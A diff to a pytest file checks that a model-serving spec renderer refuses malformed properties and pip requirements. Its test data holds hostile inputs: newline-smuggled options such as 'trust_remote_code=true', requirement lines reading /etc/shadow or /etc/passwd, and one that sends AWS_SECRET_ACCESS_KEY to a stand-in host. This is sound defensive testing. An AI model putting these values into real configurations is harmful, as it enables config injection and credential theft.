@@ -159,10 +159,14 @@ REFUSAL_CASES = [
                  id="pooling-wrong-task"),
     pytest.param({"properties": {"option.model_loading_timeout": "soon"}}, {},
                  "spec.model.properties[option.model_loading_timeout]", "positive number", id="timeout-text"),
-    pytest.param({"properties": {"bad key": "x"}}, {},
-                 "spec.model.properties[bad key]", "letters, digits", id="key-with-space"),
-    pytest.param({"properties": {"option.x": "a\nengine=MPI"}}, {},
-                 "spec.model.properties[option.x]", "single line", id="newline-injection"),
+    pytest.param({"properties": {"tensor_parallel_degree": "8"}}, {},
+                 "spec.model.properties[tensor_parallel_degree]", "write it as 'option.tensor_parallel_degree'",
+                 id="unprefixed-owned-key"),
+    pytest.param({"properties": {"TASK": "feature-extraction"}}, {},
+                 "spec.model.properties[TASK]", "write it as 'option.task'", id="unprefixed-case-variant"),
+    pytest.param({"properties": {"option.pooling": "mean", "pooling": "cls"}}, {},
+                 "spec.model.properties[pooling]", "duplicates spec.model.properties[option.pooling]",
+                 id="prefixed-and-unprefixed"),
     pytest.param({"properties": {"maxWorkers": "1", "MAXWORKERS": "2"}}, {},
                  "spec.model.properties[MAXWORKERS]", "duplicates", id="case-duplicate"),
     pytest.param({"id": "s3://bucket/weights/", "revision": "main"}, {},
@@ -178,6 +182,34 @@ def test_refusals_name_the_field(model: dict[str, Any], sections: dict[str, Any]
     assert info.value.field == field
     assert str(info.value).startswith(f"{field}: ")
     assert words in str(info.value)
+
+
+# The typed model refuses these first (tests/unit/test_hostile_corpus.py); render refuses them
+# too, for specs built without validation.
+UNCHECKED_CASES = [
+    pytest.param({"bad key": "x"}, "spec.model.properties[bad key]", "letters, digits", id="key-with-space"),
+    pytest.param({"key\n": "x"}, "spec.model.properties[key\n]", "letters, digits", id="key-trailing-newline"),
+    pytest.param({"option.x": "a\nengine=MPI"}, "spec.model.properties[option.x]", "single line", id="newline"),
+    pytest.param({"option.x": "a\u2028engine=MPI"}, "spec.model.properties[option.x]", "single line", id="u2028"),
+    pytest.param({"option.x": "a\x85b"}, "spec.model.properties[option.x]", "single line", id="nel"),
+]
+
+
+@pytest.mark.parametrize(("properties", "field", "words"), UNCHECKED_CASES)
+def test_render_refuses_unchecked_properties(properties: dict[str, str], field: str, words: str):
+    spec = make_spec()
+    spec.model.properties = properties  # no validation on assignment: as if the typed model had let it through
+    with pytest.raises(SpecError) as info:
+        render.serving_properties(spec)
+    assert info.value.field == field and words in info.value.message
+
+
+def test_render_refuses_control_characters_in_first_class_fields():
+    spec = make_spec({"revision": "main"})
+    spec.model.revision = "main\noption.trust_remote_code=true"
+    with pytest.raises(SpecError) as info:
+        render.serving_properties(spec)
+    assert info.value.field == "spec.model.revision"
 
 
 def test_explicit_image_uri_skips_the_framework_engine_check():
@@ -198,10 +230,12 @@ def test_every_supported_pair_renders(engine: api.Engine, task: api.Task):
 
 FORMAT_CASES = [
     pytest.param("plain", "plain", id="plain"),
-    pytest.param(r"C:\path", r"C:\\path", id="backslash"),
+    pytest.param(r"C:\path", r"C\:\\path", id="backslash"),
     pytest.param(" leading", r"\ leading", id="leading-space"),
     pytest.param("#not-a-comment", r"\#not-a-comment", id="leading-hash"),
-    pytest.param("a=b:c", "a=b:c", id="separators-inside"),
+    pytest.param("a=b:c", r"a\=b\:c", id="separators-inside"),
+    pytest.param("a\nengine=MPI", r"a\nengine\=MPI", id="newline"),
+    pytest.param("a\u2028b\x85c\x00", r"a\u2028b\u0085c\u0000", id="separators-and-nul"),
     pytest.param("café", r"caf\u00e9", id="latin1"),
     pytest.param("😀", r"\ud83d\ude00", id="astral"),
 ]
@@ -244,11 +278,36 @@ def test_merge_requirements(template_text: str, user: list[str], expected: str):
     assert render.merge_requirements(template_text, user) == expected
 
 
-@pytest.mark.parametrize("bad", ["", "   ", "a\nb", "# just a comment"])
+BAD_REQUIREMENTS = [
+    "", "   ", "a\nb", "a\rb", "# just a comment", "numpy # trailing comment",
+    "-e git+https://example.invalid/x.git", "-r /etc/shadow", "-c constraints.txt", "--trusted-host evil.invalid",
+    "--index-url=https://example.invalid/simple", "--extra-index-url file:///tmp", "--index-url", "--pre",
+    "file:///etc/passwd", "./local/dir", "git+https://example.invalid/x.git",
+    "x @ file:///etc/passwd", "x @ https://example.invalid/${AWS_SECRET_ACCESS_KEY}",
+    "numpy\u2028--index-url https://evil.invalid", "numpy\x85x", "numpy\x0bx", "numpy\x0cx", "numpy\x1cx",
+    "numpy \\", "numpy --hash=sha256:abc", "numpy --global-option=--evil", "numpy; ", "caf\u00e9",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("bad", BAD_REQUIREMENTS)
 def test_bad_requirement_names_its_index(bad: str):
     with pytest.raises(SpecError) as info:
         render.merge_requirements("", ["ok", bad])
     assert info.value.field == "spec.model.requirements[1]"
+
+
+@pytest.mark.parametrize(
+    ("entry", "kind"),
+    [
+        ("numpy", render.RequirementKind.NAMED),
+        ("A.B[x]>=1,<2; python_version>'3'", render.RequirementKind.NAMED),
+        ("x @ https://example.invalid/x-1.0-py3-none-any.whl", render.RequirementKind.URL),
+        ("--index-url https://pypi.example.invalid/simple", render.RequirementKind.INDEX_OPTION),
+        ("--extra-index-url http://10.0.0.1:8080/simple/", render.RequirementKind.INDEX_OPTION),
+    ],
+)
+def test_classify_requirement(entry: str, kind: render.RequirementKind):
+    assert render.classify_requirement(0, entry)[0] is kind
 
 
 # --- the whole file set -------------------------------------------------------------------------
